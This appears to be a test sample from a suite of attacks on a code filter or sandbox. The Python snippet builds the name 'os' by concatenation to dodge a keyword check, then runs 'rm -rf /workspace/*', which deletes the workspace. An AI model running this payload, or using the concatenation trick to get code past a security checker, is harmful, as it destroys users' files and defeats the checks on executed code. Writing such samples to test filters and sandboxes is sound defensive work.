# attack-class: 2
# title: __import__('o'+'s')
# why: the module name is built by concatenation so no literal "os" appears

m = __import__('o' + 's')
m.system("rm -rf /workspace/*")
